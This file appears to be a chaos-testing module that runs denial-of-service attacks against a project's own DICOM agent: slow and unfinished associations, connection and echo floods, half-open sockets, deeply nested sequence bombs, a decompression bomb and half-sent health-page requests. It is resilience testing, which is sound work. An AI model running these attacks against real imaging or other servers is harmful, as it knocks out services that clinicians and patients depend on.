"""The attacks of scripts/chaos. Each runs in a process of its own until its event is set. Standard library only."""
import multiprocessing
import resource
import selectors
import socket
import struct
import threading
import zlib

import chaos_wire as wire


def association_loop(address, source, stop, act):
    """Opens associations again and again and lets ``act`` do one round a second with each."""
    sock = None
    while not stop.is_set():
        try:
            if sock is None:
                sock = wire.open_association(address, source, "EVIL")
                act(sock, True)
            act(sock, False)
            stop.wait(1)
        except (OSError, EOFError):
            if sock is not None:
                sock.close()
            sock = None
            stop.wait(0.2)


def keep_alive(sock, is_new):
    sock.sendall(wire.echo())
    wire.read_pdu(sock)


def trickle(sock, is_new):
    sock.sendall(wire.store_command(wire.STORE_CONTEXT, b"2.25.9") if is_new else wire.piece(wire.STORE_CONTEXT, 0, b"ab"))


def unfinished(sock, is_new):
    if is_new:
        sock.sendall(wire.store_command(wire.STORE_CONTEXT, b"2.25.9"))
        part = wire.piece(wire.STORE_CONTEXT, 0, bytes(100_000))
        for _ in range(150):
            sock.sendall(part)


def never_read(address, source, stop):
    """Sends C-ECHO requests as fast as the agent takes them and reads no answer."""
    burst = wire.echo() * 100
    while not stop.is_set():
        try:
            sock = wire.open_association(address, source, "EVIL")
        except (OSError, EOFError):
            stop.wait(0.2)
            continue
        sock.settimeout(1)
        try:
            while not stop.is_set():
                try:
                    sock.sendall(burst)
                except socket.timeout:
                    stop.wait(1)
        except OSError:
            stop.wait(0.2)
        finally:
            sock.close()


def half_open(address, source, stop):
    """Sends half a PDU, says that it will send no more, and never closes."""
    kept = []
    while not stop.is_set():
        try:
            sock = wire.open_association(address, source, "EVIL")
            sock.sendall(wire.echo()[:20])
            sock.shutdown(socket.SHUT_WR)
            kept.append(sock)
        except (OSError, EOFError):
            stop.wait(0.05)
        if len(kept) > 200:
            kept.pop(0).close()
        stop.wait(0.01)


def connects(address, source, stop, keep):
    """Connects as fast as it can, sends nothing, and keeps so many connections open."""
    kept = []
    while not stop.is_set():
        try:
            kept.append(wire.connect(address, source, 2))
            # Closed by a reset: otherwise each port waits for a minute, and the attack ends when there is none left.
            kept[-1].setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        except OSError:
            stop.wait(0.01)
        if len(kept) > keep:
            kept.pop(0).close()


def deep_data_set():
    """Sequences in sequences, 100,000 deep, of undefined length."""
    return (struct.pack("<HH2sHI", 0x0040, 0xA730, b"SQ", 0, 0xFFFFFFFF) + struct.pack("<HHI", 0xFFFE, 0xE000, 0xFFFFFFFF)) * 100_000


def inflating_data_set():
    """200 kB that inflate to 200 MB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    part = bytes(1_000_000)
    return b"".join(packer.compress(part) for _ in range(200)) + packer.flush()


def bombs(address, source, stop):
    payloads = ((wire.STORE_CONTEXT, deep_data_set()), (wire.DEFLATED_CONTEXT, inflating_data_set()))
    number = 0
    while not stop.is_set():
        try:
            sock = wire.open_association(address, source, "EVIL")
            try:
                while not stop.is_set():
                    context, data = payloads[number % 2]
                    number += 1
                    sock.sendall(wire.store_message(context, b"2.25.77%d" % number, data))
                    wire.read_pdu(sock)
            finally:
                sock.close()
        except (OSError, EOFError):
            stop.wait(0.2)


def half_request(address, source, stop):
    """Half-sent requests to the health page."""
    while not stop.is_set():
        try:
            sock = wire.connect(address, source, 10)
            try:
                sock.sendall(b"GET /rea")
                sock.recv(100)
            finally:
                sock.close()
        except OSError:
            stop.wait(0.2)


# name: (target, arguments of the threads); the first of an address is the DICOM port, "health" the health page.
ATTACKS = {
    "unfinished": [(association_loop, unfinished)] * 63 + [(connects, 5)] * 4,
    "never-read": [(never_read,)] * 64,
    "keep-alives": [(association_loop, keep_alive)] * 64,
    "tricklers": [(association_loop, trickle)] * 64,
    "connects": [(connects, 2500)] * 4,
    "half-open": [(half_open,)] * 4,
    "bombs": [(bombs,)] * 2,
    "half-requests": [(half_request,)] * 40,
}


def start(name, address, source):
    """Starts an attack; returns the function that ends it."""
    stop = multiprocessing.Event()
    process = multiprocessing.Process(target=run, args=(name, address, source, stop), daemon=True)
    process.start()

    def end():
        stop.set()
        process.join(3)
        process.kill()
        process.join()

    return end


def run(name, address, source, stop):
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(20_000, hard), hard))
    threads = []
    for target, *rest in ATTACKS[name]:
        arguments = (address, source, stop, *rest)
        threads.append(threading.Thread(target=target, args=arguments, daemon=True))
    for thread in threads:
        thread.start()
    stop.wait()


def stand_in(port_pipe):
    """A listener that does next to nothing: it answers what comes with canned bytes. Attacked instead of the agent, it shows what the
    attacker itself takes from the machine."""
    accept = bytes.fromhex("020000000004") + b"\0\1\0\0"
    answer = wire.piece(wire.ECHO_CONTEXT, 3, bytes(100))
    chooser = selectors.DefaultSelector()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4096)
    listener.setblocking(False)
    chooser.register(listener, selectors.EVENT_READ, None)
    port_pipe.send(listener.getsockname()[1])
    opened = []
    while True:
        for key, _ in chooser.select():
            if key.data is None:
                sock, _ = listener.accept()
                sock.setblocking(False)
                chooser.register(sock, selectors.EVENT_READ, ["new"])
                opened.append(sock)
                if len(opened) > 1000:
                    discard(chooser, opened.pop(0))
                continue
            try:
                data = key.fileobj.recv(65536)
                if data:
                    key.fileobj.send(accept if key.data[0] == "new" else answer)
                    key.data[0] = "open"
                else:
                    discard(chooser, key.fileobj)
            except OSError:
                discard(chooser, key.fileobj)


def discard(chooser, sock):
    if sock.fileno() >= 0:
        chooser.unregister(sock)
        sock.close()


def start_stand_in():
    """Returns the address of a listener that does next to nothing, and the function that ends it."""
    mine, theirs = multiprocessing.Pipe()
    process = multiprocessing.Process(target=stand_in, args=(theirs,), daemon=True)
    process.start()
    return ("127.0.0.1", mine.recv()), process.kill
